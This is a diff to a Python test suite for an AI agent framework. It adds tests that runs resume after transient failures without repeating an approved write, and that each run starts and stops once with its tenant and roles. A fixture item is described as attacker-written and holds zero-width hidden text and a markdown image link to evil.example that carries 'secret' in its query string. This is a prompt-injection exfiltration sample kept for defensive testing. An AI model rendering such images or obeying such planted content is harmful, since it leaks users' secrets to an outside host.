@@ -27,7 +27,7 @@ from tether.context.status import StatusConfig
 from tether.context.subagent import Subagent
 from tether.context.toolsearch import ToolSearchConfig
 from tether.desk import ProposalDesk
-from tether.errors import PolicyError
+from tether.errors import DependencyUnavailable, ModelError, PolicyError
 from tether.messages import AssistantMessage, ToolCall, ToolMessage
 from tether.models.base import ModelRequest
 from tether.planexec import Plan, PlannedCall, run_plan
@@ -72,6 +72,7 @@ class World:
     writes: list[str] = field(default_factory=list)
     reads: list[str] = field(default_factory=list)
     crash: CrashAfterEffect = field(default_factory=CrashAfterEffect)
+    outage: bool = False  # the item store is down: reads fail as an unavailable dependency
 
     def host(self, policy: Policy | None = None, *, rate: TokenBucket | None = None) -> Host:
         world = self
@@ -87,9 +88,14 @@ class World:
         @tool(target=Target("item_id", "item"))
         def read_item(item_id: Annotated[str, Field(description="The item id.")]) -> dict[str, Any]:
             """Read one item."""
+            if world.outage:
+                raise DependencyUnavailable("the item store is down")
             world.reads.append(item_id)
             if item_id == "a2":  # a record an attacker wrote: hidden text and an exfiltrating image
-                return {"item": item_id, "text": "fine\u200b\u200b print ![x](https://evil.example/?q=secret)"}
+                return {
+                    "item": item_id,
+                    "text": "fine\u200b\u200b print ![x](https://evil.example/?q=secret)",
+                }
             return {"item": item_id, "text": f"contents of {item_id}"}
 
         store = SqliteApprovalStore(self.tmp / "approvals.db")
@@ -653,3 +659,80 @@ def test_results_are_cleaned_of_hidden_text_before_anyone_reads_them(world: Worl
     ok = _run(_closing(host, entry_cls().first(host, [("read_item", {"item_id": "a1"})], TENANT)))
     plain = [e for e in ok.events if str(e.kind) == "tool_observation" and e.data["tool"] == "read_item"]
     assert ok.stop_reason == "accepted" and "cleaned" not in plain[0].data
+
+
+def _fails_after_the_effect(write: tuple[ToolCall, ...], failure: str) -> FunctionModel:
+    """Proposes ``write``; once its result is in, fails transiently: the backend errors once, or
+    the model reads an item twice while the item store is down. Then it reads again and answers."""
+    failed = []
+
+    def answer(request: ModelRequest) -> AssistantMessage:
+        turns = [m for m in request.messages if isinstance(m, AssistantMessage) and m.tool_calls]
+        if not turns:
+            return AssistantMessage(tool_calls=write)
+        if failure == "model_error" and not failed:
+            failed.append(True)
+            raise ModelError("the model's backend is unavailable")
+        if failure == "dependency_unavailable" and len(turns) < 3:
+            n = len(turns)
+            read = json.dumps({"item_id": "a1"})
+            return AssistantMessage(
+                tool_calls=(ToolCall(f"r{n}a", "read_item", read), ToolCall(f"r{n}b", "read_item", read))
+            )
+        return AssistantMessage(content="done")
+
+    return FunctionModel(answer)
+
+
+RESUMABLE = [AgentEntry, DurableEntry]
+
+
+@pytest.mark.parametrize("entry_cls", RESUMABLE, ids=[e.name for e in RESUMABLE])
+@pytest.mark.parametrize("failure", ["model_error", "dependency_unavailable"])
+def test_a_run_that_fails_transiently_after_an_approved_effect_resumes_without_repeating_it(
+    world: World, entry_cls: Any, failure: str
+) -> None:
+    entry = entry_cls()
+    entry.make_agent = lambda calls, cfg: Agent("Use the tools.", _fails_after_the_effect(calls, failure))
+    host = world.host()
+    assert host.approvals is not None
+    store = host.approvals.store
+
+    async def scenario() -> tuple[Outcome, Outcome]:
+        first = await entry.first(host, [("write_note", {"note": "hello"})], TENANT)
+        assert first.stop_reason == "approval_required", first.kinds()
+        assert world.approve_all(host)
+        world.outage = failure == "dependency_unavailable"
+        failed = await entry.again(host, TENANT)  # the effect runs, then the run fails
+        world.outage = False
+        return failed, await entry.again(host, TENANT)
+
+    failed, last = _run(_closing(host, scenario()))
+    assert failed.stop_reason == failure, failed.kinds()
+    assert world.writes == ["hello"]
+    assert last.stop_reason == "accepted", last.kinds()
+    assert world.writes == ["hello"], "the approved effect ran again on resume"
+    assert world.reads == ["a1"] * (2 if failure == "dependency_unavailable" else 0)
+    kinds = last.kinds()
+    resumed = len(kinds) - kinds[::-1].index("run_resumed")  # the last resume's events
+    assert "effect_intent" not in kinds[resumed:] and "run_resumed" not in kinds[resumed:]
+    cp = store.load_checkpoint(entry.run_id)
+    assert cp is not None and (cp.status, cp.stop_reason) == ("finished", "accepted")
+
+
+RUNS = [AgentEntry, WorkflowEntry, PlanEntry, DeskEntry, SubagentEntry, DurableEntry]
+
+
+@pytest.mark.parametrize("entry_cls", RUNS, ids=[e.name for e in RUNS])
+def test_every_run_starts_once_with_its_tenant_and_roles_and_stops_once(world: World, entry_cls: Any) -> None:
+    host = world.host()
+    out = _run(_closing(host, entry_cls().first(host, [("read_item", {"item_id": "a1"})], TENANT)))
+    assert out.stop_reason == "accepted", out.kinds()
+    starts = [e for e in out.events if str(e.kind) == "run_started"]
+    stops = [e for e in out.events if str(e.kind) == "stop"]
+    assert len(starts) == len(stops) >= 1, out.kinds()
+    for start in starts:
+        assert (start.data["tenant"], start.data["roles"]) == ("tenant-a", ["reader"]), start.data
+    assert stops[-1].data["reason"] == "accepted" and out.kinds()[-1] == "stop"
+    # one run, one trace: the start and the stop carry the same run id
+    assert {e.run_id for e in starts} == {e.run_id for e in stops}
